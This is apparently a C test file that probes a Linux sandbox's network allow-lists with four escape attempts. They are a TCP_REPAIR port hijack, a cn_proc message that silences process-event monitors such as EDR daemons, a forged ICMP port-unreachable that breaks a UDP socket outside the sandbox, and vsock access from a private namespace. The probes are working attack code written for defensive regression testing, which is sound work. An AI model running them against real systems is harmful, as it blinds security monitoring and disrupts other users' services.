// SPDX-License-Identifier: GPL-2.0
/*
 * Escapes: the seventh review's (issue #24 item 9), against the twelfth
 * session's allow-lists of init_net (families at socket_create, netlink
 * messages, IP options) and of a network namespace of the task's own.
 * Each attempt's control runs the same probe in the sibling cgroup
 * without a policy, where it must get through.
 *
 * - TCP_REPAIR (SOL_TCP) on a socket of init_net: CAP_NET_ADMIN is the
 *   task's own, and repair mode sets sk_reuse to SK_FORCE_REUSE, which
 *   skips inet_csk_get_port()'s bind conflict check, at bind and again
 *   at listen (a listening socket cannot leave repair mode, and need
 *   not). A listener on 127.0.0.1:P beside a service outside on
 *   0.0.0.0:P takes every connection to 127.0.0.1:P (the specific
 *   address is looked up first): the port hijack that the guard
 *   refuses for SO_REUSEPORT, by another door. socket_setsockopt judges
 *   SOL_SOCKET, SOL_PACKET, SOL_IP and SOL_IPV6 only.
 * - NETLINK_CONNECTOR in init_net: netlink_send lets every connector
 *   message through (nl_write(): "configure no network namespace"), but
 *   cn_proc's PROC_CN_MCAST_IGNORE decrements one counter of listeners
 *   for the whole machine (6.1 counts no socket's own subscription):
 *   sent by a task that never listened, it takes the count to 0 and the
 *   kernel stops sending process events to every listener outside (a
 *   process monitor, an audit or EDR daemon). Connector messages are
 *   not dispatched by nlmsg_type (clients send NLMSG_DONE), so a check
 *   by type alone would not hold either: nl_write() passes every type
 *   below NLMSG_MIN_TYPE for every protocol. debian only (lsm has no
 *   connector).
 * - A raw ICMP socket of init_net (kept for ping) sends any ICMP, errors
 *   included, to the machine itself: a port unreachable quoting a UDP
 *   datagram of a socket outside (127.0.0.1:P to 127.0.0.1:Q) is taken
 *   by udp_err() as the peer's answer, and the socket outside, if
 *   connected, gets ECONNREFUSED at its next call (fatal ICMP errors
 *   need no sequence number for UDP; PMTU and redirects are the same
 *   door). Not fixed here: the raw ICMP entry of the family allow-list
 *   is what ping uses; closing it is the coordinator's choice.
 * - AF_VSOCK in a network namespace of its own: socket_create lets
 *   every family through outside init_net, but vsock (6.1) knows no
 *   network namespace: its sockets reach the hypervisor (CID 2) and
 *   every vsock service of the machine (CID 1, vsock_loopback) from any
 *   namespace, past every rule, as in init_net, where it is refused.
 *   Neither lab kernel has vsock loaded (lsm: not built; debian: a
 *   module modules.cpio does not carry): skipped there.
 */
#define _GNU_SOURCE
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <sys/wait.h>

#include "escapes.h"

#define PORT_HIJACK	2727	/* a service outside listens on 0.0.0.0 here */
#define PORT_UDP_SRV	2828	/* a UDP service outside, on 127.0.0.1 */

/* --- TCP_REPAIR: a listener on a port a service outside holds ------------ */

static int hijack_out = -1;	/* the service's listener, the runner's */

/* A TCP listener on 0.0.0.0:PORT_HIJACK (no SO_REUSE*), or -1. */
static int service_listener(void)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	fill_addr(&ss, &len, AF_INET, "0.0.0.0", PORT_HIJACK);
	if (bind(fd, (struct sockaddr *)&ss, len) || listen(fd, 16)) {
		close(fd);
		return -1;
	}
	return fd;
}

/*
 * TCP_REPAIR on, bind 127.0.0.1:PORT_HIJACK (the service holds
 * 0.0.0.0:PORT_HIJACK), listen, then connect as any client would: 0
 * when its own listener took the connection meant for the service.
 */
static int p_repair_hijack(const void *arg)
{
	struct sockaddr_storage ss;
	struct pollfd pfd;
	socklen_t len;
	int one = 1, l, c = -1, a, err;

	(void)arg;
	close(hijack_out);	/* inherited from the runner: not the task's to use */
	l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (l < 0)
		return BROKEN;
	if (setsockopt(l, SOL_TCP, TCP_REPAIR, &one, sizeof(one))) {
		err = errno;
		goto out;
	}
	fill_addr(&ss, &len, AF_INET, "127.0.0.1", PORT_HIJACK);
	if (bind(l, (struct sockaddr *)&ss, len) || listen(l, 4)) {
		err = errno;
		goto out;
	}
	c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (c < 0 || connect(c, (struct sockaddr *)&ss, len)) {
		err = BROKEN;
		goto out;
	}
	pfd = (struct pollfd){ .fd = l, .events = POLLIN };
	a = poll(&pfd, 1, 2000) == 1 ? accept4(l, NULL, NULL, SOCK_CLOEXEC) : -1;
	err = a >= 0 ? 0 : EAGAIN;	/* the service outside took it */
	if (a >= 0)
		close(a);
out:
	if (c >= 0)
		close(c);
	close(l);
	return err;
}

static void test_repair_hijack(const char *m)
{
	const char *what = "TCP_REPAIR, then bind and listen on 127.0.0.1 at the port a "
			   "service outside listens on (0.0.0.0), and take its connections";
	int fd;

	hijack_out = service_listener();
	if (hijack_out < 0) {
		skip(what, "no listener of the service's on 0.0.0.0:2727");
		return;
	}
	attempt(m, HOLD, true, what,
		"socket_setsockopt: repair mode (SK_FORCE_REUSE) skips the bind conflict check "
		"at bind and at listen: the port hijack SO_REUSEPORT is refused for",
		p_repair_hijack, NULL);
	while ((fd = accept4(hijack_out, NULL, NULL, SOCK_CLOEXEC)) >= 0)
		close(fd);
	close(hijack_out);
	hijack_out = -1;
}

/* --- cn_proc: the machine's process events switched off ----------------- */

static int cn_out = -1;	/* a process-event listener outside, the runner's */

/* One cn_proc control message, @op, on connector socket @fd: 0 or errno. */
static int cn_send(int fd, enum proc_cn_mcast_op op)
{
	struct {
		struct nlmsghdr h;
		struct cn_msg m;
		enum proc_cn_mcast_op op;
	} __attribute__((packed, aligned(4))) r;

	memset(&r, 0, sizeof(r));
	r.h.nlmsg_len = sizeof(r);
	r.h.nlmsg_type = NLMSG_DONE;	/* as every cn_proc client sends it */
	r.h.nlmsg_pid = getpid();
	r.m.id.idx = CN_IDX_PROC;
	r.m.id.val = CN_VAL_PROC;
	r.m.len = sizeof(op);
	r.op = op;
	return send(fd, &r, sizeof(r), 0) < 0 ? errno : 0;
}

/* A connector socket bound to cn_proc's group: the fd, or -errno. */
static int cn_open(void)
{
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC };
	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);

	if (fd < 0)
		return errno == EPROTONOSUPPORT ? -ENOSYS : -errno;
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		close(fd);
		return -errno;
	}
	return fd;
}

/* Events waiting on @fd, dropped; then: does a fork and exit bring one within @ms? */
static bool cn_events_flow(int fd, int ms)
{
	char buf[4096];
	struct pollfd pfd = { .fd = fd, .events = POLLIN };
	pid_t pid;

	while (recv(fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
		;
	pid = fork();
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return poll(&pfd, 1, ms) == 1;
}

/*
 * PROC_CN_MCAST_IGNORE from a socket that never listened, then a fork
 * and an exit: 0 when the listener outside (cn_out, only watched here)
 * got no event for them, ENOSYS when the kernel has no connector.
 */
static int p_cn_ignore(const void *arg)
{
	int fd, err;

	(void)arg;
	fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
	if (fd < 0)
		return errno == EPROTONOSUPPORT ? ENOSYS : errno;
	err = cn_send(fd, PROC_CN_MCAST_IGNORE);
	close(fd);
	if (err)
		return err;
	return cn_events_flow(cn_out, 1000) ? EAGAIN : 0;
}

static void test_cn_proc(const char *m)
{
	const char *what = "cn_proc's PROC_CN_MCAST_IGNORE in init_net (NLMSG_DONE): the "
			   "machine's process events stop for a listener outside";

	cn_out = cn_open();
	if (cn_out == -ENOSYS) {
		skip(what, "no connector in this kernel");
		return;
	}
	if (cn_out < 0 || cn_send(cn_out, PROC_CN_MCAST_LISTEN) ||
	    !cn_events_flow(cn_out, 2000)) {
		skip(what, "no process events to a listener outside to begin with");
		if (cn_out >= 0)
			close(cn_out);
		cn_out = -1;
		return;
	}
	/* the control's IGNORE is undone before the attempt, and the attempt's after it */
	if (control(cg.ctl, what, p_cn_ignore, NULL) == 0)
		cn_send(cn_out, PROC_CN_MCAST_LISTEN);
	attempt(m, HOLD, false, what,
		"netlink_send: the connector's callbacks are the machine's (cn_proc's one count "
		"of listeners, w1 buses, dm's userspace log), and it does not read nlmsg_type",
		p_cn_ignore, NULL);
	if (!cn_events_flow(cn_out, 1000))
		cn_send(cn_out, PROC_CN_MCAST_LISTEN);
	/* the count is the machine's, not the socket's: its LISTEN undone before it goes */
	cn_send(cn_out, PROC_CN_MCAST_IGNORE);
	close(cn_out);
	cn_out = -1;
}

/* --- raw ICMP: an error for a socket outside -------------------------- */

static int udp_srv = -1, udp_cli = -1;	/* a UDP service outside and its client */

static unsigned short csum16(const void *p, size_t n)
{
	const unsigned short *w = p;
	unsigned long sum = 0;

	for (; n > 1; n -= 2)
		sum += *w++;
	if (n)
		sum += *(const unsigned char *)w;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short)~sum;
}

/*
 * A raw ICMP socket sends 127.0.0.1 a port unreachable that quotes a
 * datagram from the client outside (127.0.0.1:its port) to the service
 * (127.0.0.1:PORT_UDP_SRV): 0 when the client then has ECONNREFUSED
 * pending (read here through the runner's descriptor, as a witness).
 */
static int p_icmp_unreach(const void *arg)
{
	struct {
		struct icmphdr icmp;
		struct iphdr ip;
		struct udphdr udp;
	} __attribute__((packed)) pkt;
	unsigned short cport = *(const unsigned short *)arg;
	struct sockaddr_storage ss;
	socklen_t len, elen;
	int fd, err = 0, soerr = 0;

	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		return errno;
	memset(&pkt, 0, sizeof(pkt));
	pkt.icmp.type = ICMP_DEST_UNREACH;
	pkt.icmp.code = ICMP_PORT_UNREACH;
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.tot_len = htons(sizeof(pkt.ip) + sizeof(pkt.udp));
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_UDP;
	pkt.ip.saddr = htonl(INADDR_LOOPBACK);
	pkt.ip.daddr = htonl(INADDR_LOOPBACK);
	pkt.ip.check = csum16(&pkt.ip, sizeof(pkt.ip));
	pkt.udp.source = htons(cport);
	pkt.udp.dest = htons(PORT_UDP_SRV);
	pkt.udp.len = htons(sizeof(pkt.udp));
	pkt.icmp.checksum = csum16(&pkt, sizeof(pkt));
	fill_addr(&ss, &len, AF_INET, "127.0.0.1", 0);
	if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&ss, len) < 0)
		err = errno;
	close(fd);
	if (err)
		return err;
	usleep(100000);
	elen = sizeof(soerr);
	if (getsockopt(udp_cli, SOL_SOCKET, SO_ERROR, &soerr, &elen))
		return BROKEN;
	return soerr == ECONNREFUSED ? 0 : EAGAIN;
}

static void test_icmp_error(const char *m)
{
	const char *what = "a raw ICMP socket of init_net sends the machine a port unreachable "
			   "for a connected UDP socket outside (ECONNREFUSED at its next call)";
	struct sockaddr_storage ss;
	struct sockaddr_in me;
	socklen_t len, mlen = sizeof(me);
	unsigned short cport;

	fill_addr(&ss, &len, AF_INET, "127.0.0.1", PORT_UDP_SRV);
	udp_srv = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	udp_cli = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (udp_srv < 0 || udp_cli < 0 || bind(udp_srv, (struct sockaddr *)&ss, len) ||
	    connect(udp_cli, (struct sockaddr *)&ss, len) ||
	    getsockname(udp_cli, (struct sockaddr *)&me, &mlen)) {
		skip(what, "no UDP service and client outside on 127.0.0.1");
		goto out;
	}
	cport = ntohs(me.sin_port);
	attempt(m, HOLD, true, what,
		"the family allow-list keeps raw ICMP for ping, whose reads are ICMP only; its "
		"sends reach the machine's own sockets as the kernel's errors (udp_err(): a "
		"fatal error needs no sequence number), a task outside's among them",
		p_icmp_unreach, &cport);
out:
	if (udp_srv >= 0)
		close(udp_srv);
	if (udp_cli >= 0)
		close(udp_cli);
	udp_srv = udp_cli = -1;
}

/* --- AF_VSOCK: a family that knows no network namespace ---------------- */

/* An AF_VSOCK socket, in a new network namespace when @arg: 0 when made, ENOSYS without vsock. */
static int p_vsock(const void *arg)
{
	int fd;

	if (arg && unshare(CLONE_NEWNET))
		return BROKEN;
	fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return errno == EAFNOSUPPORT ? ENOSYS : errno;
	close(fd);
	return 0;
}

void test_review7(void)
{
	const char *m = cg.main;

	tap_note("--- the twelfth session's allow-lists (review 7)");
	test_repair_hijack(m);
	test_cn_proc(m);
	test_icmp_error(m);
	attempt(m, HOLD, true,
		"AF_VSOCK socket from a network namespace of its own (vsock has none: the "
		"hypervisor and the machine's vsock services)",
		"socket_create: vsock is refused in init_net, and a namespace of its own changes "
		"nothing for it", p_vsock, "own");
}
